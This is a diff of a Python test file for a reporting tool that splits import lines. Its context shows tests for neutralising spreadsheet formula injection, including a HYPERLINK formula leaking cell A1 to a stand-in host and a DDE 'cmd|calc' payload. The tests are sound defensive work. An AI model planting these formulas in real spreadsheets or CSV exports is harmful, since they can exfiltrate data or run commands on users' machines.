@@ -10,7 +10,10 @@ from pathlib import Path
 import pytest
 from click.testing import Result
 
-from indicators.safe_text import FORMULA_STARTS, is_formula_like, neutralise, safe_filename
+from indicators.safe_text import FORMULA_STARTS
+from indicators.safe_text import is_formula_like
+from indicators.safe_text import neutralise
+from indicators.safe_text import safe_filename
 
 HOSTILE = {
     2020: '=HYPERLINK("http://example.invalid/?"&A1;"klicka")',
@@ -66,7 +69,8 @@ def test_xlsx_export_neutralises_comments_and_keeps_numbers(
 def test_the_annotated_copy_keeps_formula_text_as_text(
     miljomal: Callable[..., Result], tmp_path: Path
 ) -> None:
-    from openpyxl import Workbook, load_workbook
+    from openpyxl import Workbook
+    from openpyxl import load_workbook
 
     source = tmp_path / "inskick.xlsx"
     workbook = Workbook()
@@ -88,7 +92,8 @@ def test_the_annotated_copy_keeps_formula_text_as_text(
 
 
 def test_report_workbooks_write_text_through_the_shared_neutraliser(tmp_path: Path) -> None:
-    from openpyxl import Workbook, load_workbook
+    from openpyxl import Workbook
+    from openpyxl import load_workbook
 
     from plan.documents.xlsx import safe_text
     from reports.documents.xlsx import put
@@ -174,7 +179,8 @@ def test_a_safe_file_name_can_be_written(tmp_path: Path) -> None:
 
 
 def test_one_csv_writer_neutralises_every_field_start_whatever_the_separator() -> None:
-    from indicators.csv_out import NumberText, csv_line
+    from indicators.csv_out import NumberText
+    from indicators.csv_out import csv_line
 
     line = csv_line(["rapport,=cmd|' -C calc'!A0,.csv", NumberText("-2,5"), -3, "a;@b\tc"], ";")
     assert line == "\"rapport,'=cmd|' -C calc'!A0,.csv\";-2,5;-3;\"a;'@b\tc\"\r\n"
